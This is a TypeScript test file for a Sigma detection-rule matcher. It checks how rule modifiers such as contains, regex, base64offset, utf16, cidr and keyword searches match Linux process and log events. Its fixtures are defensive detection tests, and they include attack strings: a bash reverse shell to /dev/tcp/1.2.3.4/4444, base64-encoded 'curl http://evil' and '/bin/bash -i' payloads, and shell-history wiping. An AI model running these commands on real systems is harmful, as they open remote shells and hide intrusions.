import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { SecurityEvent } from '../../../src/protocol/security-event.ts';
import { linuxEvent, matches, rulesFrom, selectionRule } from './sigma-fixtures.ts';

/** A process_creation event (auditd EXECVE) with the command line and image given. */
const proc = (cmdLine: string, image = '/usr/bin/curl', extra: Partial<SecurityEvent> = {}): SecurityEvent =>
  linuxEvent({
    class_uid: 1007,
    process: { cmd_line: cmdLine, file: { path: image } },
    logsource: { product: 'linux', service: 'auditd', category: 'process_creation' },
    ...extra,
  });

const rule = (selection: string): string => selectionRule(selection, 'product: linux');
const check = (selection: string, event: SecurityEvent, expected: boolean): void =>
  assert.equal(
    matches(rule(selection), event),
    expected,
    `${selection} on ${JSON.stringify(event.process ?? event.raw_data)}`,
  );

describe('plain values', () => {
  test('match the whole value, case-insensitively by default', () => {
    check("Image: '/usr/bin/curl'", proc('curl x'), true);
    check("Image: '/USR/BIN/Curl'", proc('curl x'), true);
    check("Image: '/usr/bin/cur'", proc('curl x'), false);
  });

  test('wildcards: * any run, ? exactly one character', () => {
    check("Image: '/usr/*/curl'", proc(''), true);
    check("Image: '/usr/bin/cur?'", proc(''), true);
    check("Image: '/usr/bin/cu?'", proc(''), false);
    check("Image: '*'", proc(''), true);
    check("CommandLine: '*-o*/tmp/*'", proc('curl -s -o /tmp/x http://a'), true);
    check("CommandLine: '*-o*/tmp/*'", proc('curl /tmp/x -s'), false);
  });

  test('escapes: \\* and \\? are literal, \\\\* is a backslash then a wildcard, a lone backslash is literal', () => {
    const windows = (path: string): SecurityEvent => proc('', path);
    check(String.raw`Image: 'C:\Windows\*'`, windows('C:\\Windows*'), true);
    check(String.raw`Image: 'C:\Windows\*'`, windows('C:\\Windows\\x'), false);
    check(String.raw`Image: 'C:\\Windows\\*'`, windows('C:\\Windows\\cmd.exe'), true);
    check(String.raw`Image: 'what\?'`, windows('what?'), true);
    check(String.raw`Image: 'what\?'`, windows('whats'), false);
    check(String.raw`Image: 'a\\\*'`, windows('a\\*'), true);
    check(String.raw`Image: 'a\\\*'`, windows('a\\b'), false);
    check(String.raw`Image: 'a\\\\b'`, windows('a\\\\b'), true);
  });

  test('numbers match their text, lists are OR, maps are AND, an empty string only an empty value', () => {
    const web = (code: number, path: string): SecurityEvent =>
      linuxEvent({
        http_response: { code },
        http_request: { url: { path } },
        logsource: { category: 'webserver' },
      });
    const webRule = (selection: string): string => selectionRule(selection, 'category: webserver');
    assert.equal(matches(webRule('sc-status: 404'), web(404, '/')), true);
    assert.equal(matches(webRule("sc-status: '404'"), web(404, '/')), true);
    assert.equal(matches(webRule('sc-status: [401, 403]'), web(403, '/')), true);
    assert.equal(matches(webRule('sc-status: [401, 403]'), web(404, '/')), false);
    assert.equal(matches(webRule("sc-status: 404\ncs-uri-stem: '/admin'"), web(404, '/')), false);
    assert.equal(matches(webRule("sc-status: 404\ncs-uri-stem: '/admin'"), web(404, '/admin')), true);
    check(
      "CurrentDirectory: ''",
      proc('x', '/x', { process: { cmd_line: 'x', working_directory: '' } }),
      true,
    );
    check("CurrentDirectory: ''", proc('x'), false);
  });

  test('null means the field is absent', () => {
    check('CurrentDirectory: null', proc('x'), true);
    check('CurrentDirectory: null', proc('x', '/x', { process: { working_directory: '/root' } }), false);
  });

  test('array fields match when any element does', () => {
    const groups = linuxEvent({ user: { name: 'bob', groups: ['users', 'sudo'] } });
    check('user.groups: sudo', groups, true);
    check('user.groups: wheel', groups, false);
    check('user.groups|contains: ud', groups, true);
  });
});

describe('string modifiers', () => {
  test('contains, startswith, endswith, and `all` over a list', () => {
    check("CommandLine|contains: ' -O '", proc('wget -O /tmp/a http://x'), true);
    check("CommandLine|contains: ' -O '", proc('wget http://x'), false);
    check("CommandLine|startswith: 'wget '", proc('wget http://x'), true);
    check("CommandLine|startswith: 'wget '", proc('/bin/wget http://x'), false);
    check("Image|endswith: '/wget'", proc('', '/usr/bin/wget'), true);
    check("Image|endswith: '/wget'", proc('', '/usr/bin/wget2'), false);
    check("CommandLine|contains|all: ['-s', 'http']", proc('curl -s http://x'), true);
    check("CommandLine|contains|all: ['-s', 'http']", proc('curl http://x'), false);
    check("CommandLine|contains: ['-s', 'nomatch']", proc('curl -s http://x'), true);
  });

  test('cased matches case-sensitively', () => {
    check("CommandLine|contains|cased: ' -O '", proc('wget -O x'), true);
    check("CommandLine|contains|cased: ' -O '", proc('wget -o x'), false);
    check("CommandLine|contains: ' -O '", proc('wget -o x'), true);
  });

  test('Greek sigma folds the same at the end of a word and inside one', () => {
    // toLowerCase gives "οδος" for "ΟΔΟΣ" alone but "οδοσa" inside "ΟΔΟΣA".
    check("CommandLine|contains: 'ΟΔΟΣ'", proc('x ΟΔΟΣA y'), true);
    check("CommandLine|contains: 'οδοσ'", proc('x οδος y'), true);
    check("CommandLine|re|i: 'ΟΔΟΣ'", proc('x ΟΔΟΣA y'), true);
    check("CommandLine|contains|cased: 'ΟΔΟΣ'", proc('x οδοσa y'), false);
  });

  test('windash: a flag dash or slash may be any of - / – — ―', () => {
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      check("CommandLine|windash|contains: ' -exec '", proc(`find . ${dash}exec rm`), true);
    }
    check("CommandLine|windash|contains: ' -exec '", proc('find . +exec rm'), false);
  });

  test('re: case-sensitive unless i; m and s change ^ $ and .', () => {
    check("CommandLine|re: '\\s-[FTd]\\s'", proc('curl -F x'), true);
    check("CommandLine|re: '\\s-[FTd]\\s'", proc('curl -f x'), false);
    check("CommandLine|re|i: '\\s-[FTd]\\s'", proc('curl -f x'), true);
    check("CommandLine|re: '(?i)IPFS\\.IO/'", proc('x ipfs.io/y'), true);
    const twoLines = proc('first\nsecond');
    check("CommandLine|re: '^second'", twoLines, false);
    check("CommandLine|re|m: '^second'", twoLines, true);
    check("CommandLine|re: 'first.second'", twoLines, false);
    check("CommandLine|re|s: 'first.second'", twoLines, true);
  });

  test('re runs in linear time: a catastrophic pattern on a crafted line returns at once', () => {
    const started = performance.now();
    check("CommandLine|re: '(a+)+$'", proc(`${'a'.repeat(50_000)}!`), false);
    assert.ok(performance.now() - started < 2000);
  });

  test('base64 encodes the value; base64offset finds it at any of the three offsets', () => {
    const encoded = Buffer.from('curl http://evil').toString('base64');
    check("CommandLine|base64: 'curl http://evil'", proc(encoded), true);
    check("CommandLine|base64|contains: 'curl http://evil'", proc(`echo ${encoded} | base64 -d`), true);
    check(
      "CommandLine|base64|contains: 'curl http://evil'",
      proc(`echo ${Buffer.from('xcurl http://evil').toString('base64')}`),
      false,
    );
    for (const prefix of ['', 'a', 'ab', 'abc', 'sh -c ']) {
      for (const suffix of ['', 'z', 'zz', ' | sh']) {
        const blob = Buffer.from(`${prefix}/bin/bash -i${suffix}`).toString('base64');
        check("CommandLine|base64offset|contains: '/bin/bash -i'", proc(`echo ${blob}`), true);
      }
    }
    check(
      "CommandLine|base64offset|contains: '/bin/bash -i'",
      proc(`echo ${Buffer.from('/bin/zsh -i').toString('base64')}`),
      false,
    );
  });

  test('utf16le, utf16be, utf16 and wide encode before base64', () => {
    const b64 = (bytes: Buffer): string => bytes.toString('base64');
    check("CommandLine|utf16le|base64: 'cmd'", proc(b64(Buffer.from('cmd', 'utf16le'))), true);
    check("CommandLine|wide|base64: 'cmd'", proc(b64(Buffer.from('cmd', 'utf16le'))), true);
    check("CommandLine|utf16be|base64: 'cmd'", proc(b64(Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]))), true);
    check(
      "CommandLine|utf16|base64: 'cmd'",
      proc(b64(Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]))),
      true,
    );
    check(
      "CommandLine|utf16le|base64offset|contains: 'cmd'",
      proc(`-enc ${b64(Buffer.from('x cmd /c', 'utf16le'))}`),
      true,
    );
    check("CommandLine|utf16le|base64: 'cmd'", proc(b64(Buffer.from('cmd'))), false);
  });
});

describe('other modifiers', () => {
  test('exists: present (even empty) or absent', () => {
    check('CurrentDirectory|exists: true', proc('x', '/x', { process: { working_directory: '' } }), true);
    check('CurrentDirectory|exists: true', proc('x'), false);
    check('CurrentDirectory|exists: false', proc('x'), true);
  });

  test('neq: the field exists and equals none of the values', () => {
    check("Image|neq: '/usr/bin/curl'", proc('', '/usr/bin/wget'), true);
    check("Image|neq: '/usr/bin/curl'", proc('', '/usr/bin/CURL'), false);
    check("Image|neq: ['/usr/bin/curl', '/usr/bin/wget']", proc('', '/usr/bin/wget'), false);
    check("CurrentDirectory|neq: '/'", proc('x'), false);
  });

  test('lt, lte, gt, gte compare numbers, also numeric text', () => {
    const port = (value: number | string): SecurityEvent => linuxEvent({ unmapped: { port: value } });
    check('port|lt: 1024', port(22), true);
    check('port|lt: 1024', port(1024), false);
    check('port|lte: 1024', port(1024), true);
    check('port|gt: 1024', port('8080'), true);
    check('port|gte: 1024', port(1023), false);
    check('port|gt: 1024', port('high'), false);
  });

  test('cidr: IPv4 and IPv6 networks, IPv4-mapped addresses', () => {
    const from = (ip: string): SecurityEvent => linuxEvent({ src_endpoint: { ip } });
    check("SourceIp|cidr: '10.0.0.0/8'", from('10.20.30.40'), true);
    check("SourceIp|cidr: '10.0.0.0/8'", from('11.0.0.1'), false);
    check("SourceIp|cidr: '192.168.1.0/24'", from('::ffff:192.168.1.7'), true);
    check("SourceIp|cidr: ['127.0.0.0/8', 'fe80::/10']", from('fe80::1%eth0'), true);
    check("SourceIp|cidr: 'fc00::/7'", from('fd12:3456::1'), true);
    check("SourceIp|cidr: 'fc00::/7'", from('2001:db8::1'), false);
    check("SourceIp|cidr: '2001:db8::/32'", from('2001:db8:0:0:1::1'), true);
    check("SourceIp|cidr: '0.0.0.0/0'", from('not an address'), false);
  });

  test('expand: placeholders become the configured values; unknown ones make the rule unsupported', () => {
    const placeholders = { Administrators: ['root', 'adm_*'] };
    const rule = selectionRule("User|expand: '%Administrators%'");
    const by = (name: string): SecurityEvent => linuxEvent({ actor: { user: { name } } });
    assert.equal(matches(rule, by('adm_bob'), { placeholders }), true);
    assert.equal(matches(rule, by('bob'), { placeholders }), false);
    assert.equal(matches(selectionRule("User: '%Administrators%'"), by('%administrators%')), true);
    assert.equal(
      matches(selectionRule(String.raw`User|expand: '\%x%Administrators%'`), by('%xroot'), { placeholders }),
      true,
    );
    const unknown = rulesFrom(selectionRule("User|expand: '%JumpServers%'"), { allowProblems: true });
    assert.deepEqual(
      unknown.unsupported.map(({ code, reason }) => ({ code, reason })),
      [
        {
          code: 'placeholder_unknown',
          reason: 'selection: placeholder %JumpServers% has no configured values',
        },
      ],
    );
  });

  test('fieldref compares two fields of the event', () => {
    const event = linuxEvent({ user: { name: 'root' }, actor: { user: { name: 'ROOT' } } });
    check("TargetUserName|fieldref: 'SubjectUserName'", event, true);
    check("TargetUserName|fieldref|cased: 'SubjectUserName'", event, false);
    check("TargetUserName|fieldref|neq: 'SubjectUserName'", event, false);
    check("TargetUserName|fieldref: 'Hostname'", event, false);
    check("Hostname|fieldref|startswith: 'TargetUserName'", linuxEvent({ user: { name: 'web' } }), true);
  });

  test('time modifiers read a date and compare one UTC part of it', () => {
    const at = linuxEvent({ time: Date.UTC(2026, 1, 12, 23, 5, 0) });
    check('time|hour: 23', at, true);
    check('time|hour|gte: 22', at, true);
    check('time|hour|lt: 6', at, false);
    check('time|minute: 5', at, true);
    check('time|month: 2', at, true);
    check('time|day: 12', at, true);
    check('time|year: 2026', at, true);
    check('time|week: 7', at, true);
  });
});

describe('keyword searches', () => {
  const line = (raw: string, message?: string): SecurityEvent =>
    linuxEvent({ raw_data: raw, ...(message === undefined ? { message: undefined } : { message }) });
  const keywordRule = (keywords: string): string => `title: k
logsource: { product: linux }
detection:
  keywords:
${keywords}
  condition: keywords
`;

  test('plain list values are found anywhere in the raw line, case-insensitively; wildcards work inside', () => {
    const rule = keywordRule("    - 'history -c'\n    - 'rm *sh_history'");
    assert.equal(matches(rule, line('Feb 1 x bash[1]: HISTORY -C')), true);
    assert.equal(matches(rule, line('Feb 1 x bash[1]: rm ~/.bash_history')), true);
    assert.equal(matches(rule, line('Feb 1 x bash[1]: ls')), false);
  });

  test('the message is searched too where raw_data escapes it (journald JSON)', () => {
    const rule = keywordRule('    - \'bash -c "id"\'');
    assert.equal(matches(rule, line('{"MESSAGE":"bash -c \\"id\\""}', 'bash -c "id"')), true);
  });

  test("'|all' wants every keyword", () => {
    const rule = `title: k
logsource: { product: linux }
detection:
  keywords:
    '|all':
      - 'bash -c /bin/bash'
      - '&/dev/tcp/'
  condition: keywords
`;
    assert.equal(matches(rule, line('x bash -c /bin/bash 0>&/dev/tcp/1.2.3.4/4444')), true);
    assert.equal(matches(rule, line('x bash -c /bin/bash')), false);
  });
});

describe('refused values and modifiers', () => {
  const problems = (selection: string): string[] =>
    [
      ...rulesFrom(rule(selection), { allowProblems: true }).errors,
      ...rulesFrom(rule(selection), { allowProblems: true }).unsupported,
    ].map(({ code }) => code);

  test('each with a stable code', () => {
    assert.deepEqual(problems('Image|sometimes: x'), ['modifier_unknown']);
    assert.deepEqual(problems('Image|contains|all: x'), ['modifier_invalid']);
    assert.deepEqual(problems('Image|re|contains: x'), ['modifier_invalid']);
    assert.deepEqual(problems('Image|i: x'), ['modifier_invalid']);
    assert.deepEqual(problems("Image|re: '(a)\\1'"), ['regex_invalid']);
    assert.deepEqual(problems("Image|re: '(?=a)'"), ['regex_invalid']);
    assert.deepEqual(problems("Image|cidr: '10.0.0.0/33'"), ['value_invalid']);
    assert.deepEqual(problems("Image|gt: 'ten'"), ['value_invalid']);
    assert.deepEqual(problems('Image|exists: yes-ish'), ['value_invalid']);
    assert.deepEqual(problems("Image: ['', null]"), ['value_invalid']);
    assert.deepEqual(problems('Image: []'), ['value_invalid']);
    assert.deepEqual(problems("Image|base64: 'a*'"), ['value_invalid']);
    assert.deepEqual(problems("Image|wide: 'cmd'"), ['modifier_not_applicable']);
  });
});
